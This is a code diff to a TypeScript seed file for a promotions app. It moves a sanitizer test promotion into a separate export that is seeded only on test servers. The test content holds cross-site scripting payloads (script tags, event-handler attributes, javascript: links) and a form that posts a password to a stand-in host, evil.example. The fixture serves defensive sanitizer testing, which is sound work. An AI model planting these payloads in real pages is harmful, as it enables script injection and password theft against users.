@@ -35,7 +35,7 @@ type SeedPromotion = {
 
 const TERMS = '<h3>Terms</h3><ol><li>One bonus per member, account, IP and device.</li><li>Turnover 10x before withdrawal.</li></ol>';
 
-/** The promotions the screens show: every shape the SPEC describes, including a hostile one. */
+/** The promotions the screens show: every shape the SPEC describes. */
 export const DEMO_PROMOTIONS: readonly SeedPromotion[] = [
   {
     title: 'Welcome bonus: 100% on your first deposit',
@@ -152,27 +152,32 @@ export const DEMO_PROMOTIONS: readonly SeedPromotion[] = [
     image: 'N',
     applies: false,
   },
-  {
-    title: 'Safety test: this content must render inert',
-    category: 'other_promo',
-    // Stored as the operator typed it; the client's sanitizer must leave none of this alive.
-    content:
-      '<p>Harmless text survives.</p><script>window.__xss = "script"</script>' +
-      '<img src="x" onerror="window.__xss = \'onerror\'" alt="broken">' +
-      '<a href="javascript:window.__xss = \'href\'">click</a>' +
-      '<iframe src="javascript:window.__xss = \'iframe\'"></iframe>' +
-      '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>' +
-      '<div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Tap</div>' +
-      '<svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
-    start: '2026-01-01',
-    end: '2026-12-31',
-    remark: 'N',
-    image: 'N',
-    applies: false,
-  },
 ];
 
-/** Inserts a merchant's promotions; ids follow insertion, so DEMO's are 1..12 on a fresh database. */
+/**
+ * A hostile promotion for the sanitizer's checks, seeded on test servers only (those with test
+ * controls on): players of a real server never see it. Last of DEMO's, so it is id 12 there.
+ */
+export const SAFETY_TEST_PROMOTION: SeedPromotion = {
+  title: 'Safety test: this content must render inert',
+  category: 'other_promo',
+  // Stored as the operator typed it; the client's sanitizer must leave none of this alive.
+  content:
+    '<p>Harmless text survives.</p><script>window.__xss = "script"</script>' +
+    '<img src="x" onerror="window.__xss = \'onerror\'" alt="broken">' +
+    '<a href="javascript:window.__xss = \'href\'">click</a>' +
+    '<iframe src="javascript:window.__xss = \'iframe\'"></iframe>' +
+    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>' +
+    '<div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Tap</div>' +
+    '<svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
+  start: '2026-01-01',
+  end: '2026-12-31',
+  remark: 'N',
+  image: 'N',
+  applies: false,
+};
+
+/** Inserts a merchant's promotions; ids follow insertion, so DEMO's are 1..11 on a fresh database (1..12 on a test server). */
 export async function seedPromotionCatalogue(db: Db, merchant: string, promotions: readonly SeedPromotion[]): Promise<void> {
   for (const [i, p] of promotions.entries()) {
     const { id } = await db
